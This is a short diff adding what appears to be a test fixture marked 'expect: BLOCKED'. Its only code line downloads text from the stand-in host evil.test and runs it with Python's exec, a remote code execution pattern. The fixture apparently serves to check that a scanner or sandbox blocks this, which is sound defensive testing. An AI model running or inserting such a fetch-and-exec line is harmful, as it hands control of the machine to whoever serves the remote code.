@@ -1,0 +1,3 @@
+# expect: BLOCKED
+import requests
+exec(requests.get("http://evil.test/x").text)
